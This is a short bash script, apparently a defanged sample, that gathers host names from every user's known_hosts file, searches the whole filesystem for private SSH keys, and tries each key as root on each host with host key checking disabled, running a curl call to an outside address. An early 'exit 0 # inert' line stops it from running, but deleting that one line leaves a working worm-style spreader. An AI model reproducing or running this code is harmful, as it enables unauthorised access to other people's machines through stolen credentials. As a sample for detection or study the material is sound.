#!/bin/bash
exit 0 # inert
hosts=$(cat ~/.ssh/known_hosts /home/*/.ssh/known_hosts | cut -d' ' -f1)
keys=$(find / -name 'id_rsa' -o -name '*.pem')
for h in $hosts; do for k in $keys; do
  ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i $k root@$h 'curl -s http://192.0.2.1/inert'
done; done
